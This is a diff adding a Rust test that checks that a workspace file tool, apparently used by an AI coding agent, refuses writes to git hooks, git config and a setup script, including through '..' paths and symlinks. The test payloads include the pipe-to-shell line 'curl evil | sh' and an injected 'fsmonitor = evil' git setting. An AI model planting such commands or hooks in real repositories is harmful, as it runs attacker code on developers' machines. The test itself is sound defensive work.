@@ -304,3 +304,46 @@ fn pipes_and_devices_are_refused_without_blocking() {
             .expect_err("fifo edit");
     assert!(err.to_string().contains("not a regular file"), "{err}");
 }
+
+#[test]
+fn protected_paths_are_never_written() {
+    let f = Fixture::new();
+    f.write(".git/config", "[core]\n");
+    f.write(".cortex/setup", "echo hi\n");
+    std::fs::create_dir_all(f.ws.root().join("sub")).expect("mkdir");
+    for (path, via) in [
+        (".git/hooks/pre-commit", "new hook"),
+        ("sub/../.git/hooks/post-checkout", "through .."),
+        (".git/config", "git config"),
+        (".cortex/setup", "setup script"),
+    ] {
+        let err =
+            f.ws.write_file(&write(path, "curl evil | sh\n"))
+                .expect_err(via);
+        assert!(matches!(err, ToolError::Protected { .. }), "{via}: {err}");
+        assert!(err.to_string().contains("may not change"), "{err}");
+    }
+    let err =
+        f.ws.edit_file(&edit(
+            ".git/config",
+            "[core]",
+            "[core]\n\tfsmonitor = evil",
+            false,
+        ))
+        .expect_err("edit of git config");
+    assert!(matches!(err, ToolError::Protected { .. }), "{err}");
+    assert_eq!(
+        std::fs::read_to_string(f.ws.root().join(".git/config")).expect("read"),
+        "[core]\n"
+    );
+    assert!(!f.ws.root().join(".git/hooks").exists());
+    // A symlink into a protected folder is resolved first and refused too.
+    std::os::unix::fs::symlink(".git", f.ws.root().join("g")).expect("symlink");
+    let err =
+        f.ws.write_file(&write("g/hooks/pre-push", "x"))
+            .expect_err("via symlink");
+    assert!(matches!(err, ToolError::Protected { .. }), "{err}");
+    // Elsewhere in .git (and a file merely named like one) is fine.
+    f.ws.write_file(&write(".cortexignore", "x"))
+        .expect("not protected");
+}
